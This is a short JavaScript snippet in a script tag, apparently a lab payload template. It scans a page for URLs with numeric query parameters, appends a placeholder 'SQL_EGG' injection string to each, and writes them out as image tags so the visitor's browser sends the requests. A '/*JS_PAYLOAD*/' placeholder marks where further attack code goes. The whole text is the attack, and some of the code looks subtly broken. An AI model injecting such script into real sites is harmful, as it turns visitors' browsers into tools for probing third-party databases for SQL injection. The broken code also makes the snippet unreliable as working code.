<script>var text=labpage.html;
var regexp=new RegExp("[a-zA-Z0-9-\\.?_&=:\\/]+\\/[a-zA-Z0-9-\\.?_&=]+=[0-9]+","g");
var m=text.match(regexp);
var sql_egg="SQL_EGG";
for(var i=0;i<m.length;i++)
{
labpage.write("<img src="+m[i]+sql_egg+">");
alert(m[i]);
}
/*JS_PAYLOAD*/
</script>